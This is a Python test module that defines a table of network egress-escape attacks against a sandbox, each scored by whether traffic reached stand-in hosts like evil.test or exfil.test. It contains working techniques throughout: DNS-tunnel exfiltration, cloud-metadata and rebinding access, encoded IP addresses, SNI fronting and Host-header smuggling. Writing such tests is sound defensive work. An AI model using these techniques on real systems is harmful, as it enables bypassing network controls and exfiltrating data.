# SPDX-License-Identifier: Apache-2.0
"""The table of attacks: what is tried, and by what the outside would know that it worked.

In a script $A is the program net_attacks; EVIL and EVIL6 are addresses that no session is allowed, GOOD one that all are.
"""

import dataclasses
import ipaddress
from collections.abc import Callable

import zone
from zone import ECHO, EVIL, EVIL6, GOOD, GOOD6, LIE, METADATA, PRIVATE


@dataclasses.dataclass(frozen=True)
class Attack:
    name: str
    script: str
    # (packets, what servers saw): did it get out? Must say yes outside, and no inside.
    got_out: Callable
    allow: tuple = ("good.test", GOOD)
    names: tuple = ("good.test",)  # that may be asked for
    privileged: bool = False       # outside it needs a right that no session has
    needs: str = ""                # a program
    may_lack: str = ""             # why it may not get out even outside, on some kernels
    ports: tuple = ()              # of GOOD, that may be seen besides 80, 443 and the lab's


def at(*addresses):
    """A packet left for one of them."""
    wanted = {str(ipaddress.ip_address(a)) for a in addresses}
    return lambda packets, seen: any(p.outward() and p.to in wanted for p in packets)


def protocol(name):
    return lambda packets, seen: any(p.outward() and p.protocol == name for p in packets)


def asked(part):
    """A name server was asked for it, or the question was on its way."""
    return lambda packets, seen: (any(part in e["name"] for e in seen if e["kind"] == "dns")
                                  or any(part.encode() in p.payload for p in packets if p.outward()))


def sent(data):
    return lambda packets, seen: any(p.outward() and data in p.payload for p in packets)


def told(*texts):
    """Somebody outside got one of the texts, in however many pieces."""
    def got_out(packets, seen):
        flows = {}
        for p in packets:
            if p.outward():
                flows[p.protocol, p.source_port, p.to] = flows.get((p.protocol, p.source_port, p.to), b"") + p.payload
        return any(t.encode() in sent for sent in flows.values() for t in texts)
    return got_out


def named(name):
    """A server of TLS took the name for the one that it is asked for."""
    return lambda packets, seen: any(e["name"] == name for e in seen if e["kind"] == "named")


def request(**fields):
    return lambda packets, seen: any(all(e.get(k) == v for k, v in fields.items()) for e in seen if e["kind"] == "http")


SYSTEM_CALLS = [Attack(name, f"$A {name} {args}", got_out, **more) for name, args, got_out, more in (
    ("tcp", f"{EVIL} {ECHO}", at(EVIL), {}),
    ("tcp", f"{EVIL6} {ECHO}", at(EVIL6), {}),
    ("tcp-bound", f"{EVIL} {ECHO}", at(EVIL), {}),
    ("tcp-long", f"{EVIL} {ECHO}", at(EVIL), {}),
    ("tcp-mapped", f"{EVIL} {ECHO}", at(EVIL), {}),
    ("tcp-unspec", f"{GOOD} {ECHO} {EVIL} {ECHO}", at(EVIL), {}),
    ("mptcp", f"{EVIL} {ECHO}", at(EVIL), {"may_lack": "the kernel has no MPTCP"}),
    ("sctp", f"{EVIL} {ECHO}", at(EVIL), {"may_lack": "the kernel has no SCTP"}),
    ("fastopen", f"{EVIL} {ECHO}", at(EVIL), {}),
    ("fastopen-connect", f"{EVIL} {ECHO}", at(EVIL), {}),
    ("udp-sendto", f"{EVIL} {ECHO}", at(EVIL), {}),
    ("udp-sendto", f"{EVIL6} {ECHO}", at(EVIL6), {}),
    ("udp-sendmsg", f"{EVIL} {ECHO}", at(EVIL), {}),
    ("udp-sendmmsg", f"{EVIL} {ECHO}", at(EVIL), {}),
    ("udp-connected", f"{EVIL} {ECHO}", at(EVIL), {}),
    ("udp-readdress", f"{GOOD} {ECHO} {EVIL} {ECHO}", at(EVIL), {}),
    ("udp-readdress", f"{zone.DNS} 53 {EVIL} {ECHO}", at(EVIL), {}),
    ("udp-unspec", f"{EVIL} {ECHO}", at(EVIL), {"may_lack": "the kernel takes no AF_UNSPEC there"}),
    ("udplite", f"{EVIL} {ECHO}", at(EVIL), {"may_lack": "the kernel has no UDP-Lite"}),
    ("ping-datagram", EVIL, protocol("icmp"), {"may_lack": "net.ipv4.ping_group_range leaves the user out"}),
    ("ping-raw", EVIL, protocol("icmp"), {"privileged": True}),
    ("raw", EVIL, protocol("ip-253"), {"privileged": True}),
    ("packet", "", protocol("ether-0x88b5"), {"privileged": True}),
    # Broadcast and multicast.
    ("udp-sendto", f"224.0.0.251 {ECHO}", at("224.0.0.251"), {}),
)]

CURL = "curl -sS -m 30 --noproxy '*' "
DECIMAL = sum(int(b) << s for b, s in zip(EVIL.split("."), (24, 16, 8, 0)))
OCTAL = ".".join(f"0{int(b):o}" for b in EVIL.split("."))
SPELLED = [Attack(f"spelled-{name}", f"{CURL} 'http://{host}:{LIE}/'", at(EVIL, EVIL6)) for name, host in (
    ("decimal", DECIMAL), ("hex", f"{DECIMAL:#x}"), ("octal", OCTAL), ("short", "203.28994"), ("mapped", f"[::ffff:{EVIL}]"),
    ("name", "evil.test"), ("final-dot", "evil.test."), ("capitals", "EVIL.test"))]
# Forms of an address that carry another one in them; that they are dialled at all is the failure.
CARRIED = [Attack(f"carried-{name}", f"$A tcp {address} {ECHO}", at(address)) for name, address in (
    ("nat64", "64:ff9b::cb00:7142"), ("6to4", "2002:cb00:7142::1"), ("compatible", "::203.0.113.66"))]

# Allowed by name or number, but not where it leads to: no --allow-private holds for these.
PRIVATE_ONES = [Attack(f"private-{host}", f"{CURL} http://{host}:{LIE}/", at(*addresses),
                       allow=("good.test", GOOD, host), names=("good.test", host)) for host, addresses in (
    ("metadata.test", (METADATA,)), ("private.test", (PRIVATE,)), (METADATA, (METADATA,)), (PRIVATE, (PRIVATE,)))]
PRIVATE_ONES += [
    # Both answers are looked at, whichever comes first.
    Attack("private-mixed.test", f"for i in 1 2 3; do {CURL} http://mixed.test/hello; done; {CURL} http://{PRIVATE}:{LIE}/",
           at(PRIVATE), allow=("good.test", GOOD, "mixed.test"), names=("good.test", "mixed.test")),
    # A public address at first, a private one ever after.
    Attack("rebinding", f"for i in $(seq 8); do {CURL} -4 http://rebind.test:{LIE}/; done", at(PRIVATE),
           allow=("good.test", GOOD, "rebind.test"), names=("good.test", "rebind.test")),
    Attack("metadata", f"{CURL} http://{METADATA}/latest/meta-data/", at(METADATA)),
]

REDIRECTS = [
    Attack("redirect", f"{CURL} -L http://good.test/to-evil", at(EVIL, EVIL6)),
    Attack("redirect-https", f"{CURL} -L https://good.test/to-evil", at(EVIL, EVIL6)),
    Attack("redirect-address", f"{CURL} -L http://good.test/to-address", at(EVIL)),
]

PYTHON = "/usr/bin/python3 -c "
RAW_QUERY = PYTHON + """'
import socket, struct, sys
def query(labels):
    return b"\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"".join(bytes([len(l)]) + l for l in labels) + b"\\0\\0\\1\\0\\1"
labels = [bytes(l, "latin-1") for l in eval(sys.argv[1])]
for server in sys.argv[2:]:
    kind = socket.SOCK_STREAM if server.startswith("tcp:") else socket.SOCK_DGRAM
    s = socket.socket(socket.AF_INET, kind)
    s.settimeout(5)
    try:
        s.connect((server.split(":")[-1], 53))
        q = query(labels)
        s.sendall(struct.pack("!H", len(q)) + q if kind == socket.SOCK_STREAM else q)
        a = s.recv(2000)[2 if kind == socket.SOCK_STREAM else 0:]
        print(server, "answered", a[3] & 15, a[6:8])
        if a[7] == 1:  # there is an address: use it
            t = socket.create_connection((socket.inet_ntoa(a[-4:]), 7001), 20)
            t.sendall(b"attack")
            print(t.recv(100))
    except OSError as e:
        print(server, e)
' """


def query(labels, *servers):
    return RAW_QUERY + repr(repr(labels)).replace("\\", "\\\\") + " " + " ".join(servers)


NAMES = [
    Attack("dns-tunnel", PYTHON + """'
import socket
for i in range(50):
    try: socket.getaddrinfo(f"{i:x}deadbeef.exfil.test", 443)
    except OSError as e: print(e)'""", asked("exfil")),
    Attack("dns-tunnel-connect", f"for i in 1 2 3; do {CURL} http://secret$i.exfil.test/; done", asked("exfil")),
    Attack("dns-direct", query(["secret", "exfil", "test"], zone.DNS, "8.8.8.8", EVIL), asked("secret")),
    Attack("dns-direct-tcp", query(["secret", "exfil", "test"], "tcp:" + zone.DNS, "tcp:8.8.8.8", "tcp:" + EVIL), asked("secret")),
    Attack("dns-below-allowed", query(["secret", "good", "test"], zone.DNS, "8.8.8.8"), asked("secret")),
    Attack("dns-nul", query(["good", "test\0", "exfil", "test"], zone.DNS, "tcp:" + zone.DNS), asked("exfil")),
    Attack("dns-dot-in-label", query(["x.exfil", "test"], zone.DNS), asked("exfil")),
    Attack("dns-dot-in-allowed", query(["good.test"], zone.DNS), sent(b"\x09good.test")),
    Attack("dns-idn", query(["g\u00f3\u00f3d", "exfil", "test"], zone.DNS), asked("exfil")),
    Attack("dns-tls", f"{CURL} -k https://8.8.8.8:{zone.DNS_TLS}/", at("8.8.8.8")),
    Attack("dns-https", f"{CURL} -k 'https://8.8.8.8/dns-query?dns=AAAB'", at("8.8.8.8")),
    Attack("dns-https-by-name", f"{CURL} -k --doh-url https://evil.test/dns-query http://secret.exfil.test/", at(EVIL, EVIL6)),
]

# What a connection to an allowed host says of itself must be that host.
OTHER = "also.test"
IN_PIECES = PYTHON + f"""'
import socket, ssl, time
i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
c = ssl.create_default_context().wrap_bio(i, o, server_hostname="{OTHER}")
try: c.do_handshake()
except ssl.SSLWantReadError: pass
hello = o.read()
s = socket.create_connection(("good.test", 443), 20)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
try:
    for b in RECORDS:
        s.sendall(b)
        time.sleep(0.002)
    print(s.recv(100))
except OSError as e: print(e)'"""
# A server that can use no key of the first ClientHello asks for another one, and goes by the name in that.
SECOND_HELLO = PYTHON + f"""'
import socket, ssl
def hello(name, groups=None):
    i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    if groups: context.set_ecdh_curve(groups)
    try: context.wrap_bio(i, o, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError: return o.read()
two = hello("{OTHER}", "prime256v1")
s = socket.create_connection(("good.test", {zone.NAMED}), 20)
try:
    s.sendall(hello("good.test"))
    print("asked for another:", bytes.fromhex("cf21ad74e59a6111") in s.recv(5000))
    for b in SENT: s.sendall(b)
    print("answered:", s.recv(5000)[:1])
except OSError as e: print(e)'"""
FRONTING = [
    Attack("sni-second", SECOND_HELLO.replace("SENT", "[two]"), named(OTHER), ports=(zone.NAMED,)),
    Attack("sni-second-in-records", SECOND_HELLO.replace(
        "SENT", "[bytes([20, 3, 3, 0, 1, 1]), *(two[:3] + bytes([0, 1, b]) for b in two[5:])]"), named(OTHER),
           ports=(zone.NAMED,)),
    Attack("sni", f"{CURL} --connect-to {OTHER}:443:good.test:443 https://{OTHER}/hello", told(OTHER)),
    Attack("sni-by-address", f"{CURL} --connect-to {OTHER}:443:{GOOD}:443 https://{OTHER}/hello", told(OTHER)),
    Attack("sni-byte-by-byte", IN_PIECES.replace("RECORDS", "[hello[k:k+1] for k in range(len(hello))]"), told(OTHER)),
    Attack("sni-in-records", IN_PIECES.replace(
        "RECORDS", "[hello[:3] + len(part).to_bytes(2, \"big\") + part for part in (hello[5:60], hello[60:])]"), told(OTHER)),
    Attack("sni-other-port", f"{CURL} --connect-to {OTHER}:8443:good4.test:8443 https://{OTHER}:8443/hello", told(OTHER),
           allow=("good.test", GOOD, "good4.test"), names=("good.test", "good4.test"), ports=(8443,)),
    Attack("host", f"{CURL} -H 'Host: evil.test' http://good.test/stolen", request(host="evil.test")),
    Attack("host-twice", PYTHON + """'
import socket
s = socket.create_connection(("good.test", 80), 20)
s.sendall(b"GET /stolen HTTP/1.0\\r\\nHost: evil.test\\r\\nHost: good.test\\r\\n\\r\\n"); print(s.recv(200))'""", told("evil.test")),
    Attack("host-absolute", PYTHON + """'
import socket
s = socket.create_connection(("good.test", 80), 20)
s.sendall(b"GET http://evil.test/stolen HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n"); print(s.recv(200))'""", told("evil.test")),
    Attack("host-second-request", f"{CURL} http://good.test/hello --next -sS -m 30 -H 'Host: evil.test' http://good.test/stolen",
           request(host="evil.test")),
    Attack("host-pipelined", PYTHON + """'
import socket
s = socket.create_connection(("good.test", 80), 20)
s.sendall(b"GET /hello HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\nGET /stolen HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n")
while s.recv(2000): pass'""", request(host="evil.test")),
    Attack("connect-method", "curl -sS -m 30 -p -x http://good.test:80 https://evil.test/", told("CONNECT evil.test")),
]

RELAYS = [
    # A proxy inside is no way out: it is as bound as its client.
    Attack("relay-inside", PYTHON + """'
import socket, socketserver, threading
class Proxy(socketserver.StreamRequestHandler):
    def handle(self):
        host, port = self.rfile.readline().split()[1].decode().split(":")
        while self.rfile.readline().strip(): pass
        try: out = socket.create_connection((host, int(port)), 20)
        except OSError as e: return print(e)
        self.wfile.write(b"HTTP/1.1 200 OK\\r\\n\\r\\n"); out.sendall(self.request.recv(1000)); self.wfile.write(out.recv(1000))
server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Proxy)
threading.Thread(target=server.serve_forever, daemon=True).start()
s = socket.create_connection(server.server_address)
s.sendall(b"CONNECT EVIL:7001 HTTP/1.1\\r\\n\\r\\n"); s.recv(100); s.sendall(b"attack"); print(s.recv(100))'""".replace("EVIL", EVIL),
           at(EVIL)),
]

ATTACKS = (*SYSTEM_CALLS, *SPELLED, *CARRIED, *PRIVATE_ONES, *REDIRECTS, *NAMES, *FRONTING, *RELAYS)
ALLOWED_ADDRESSES = (GOOD, GOOD6)
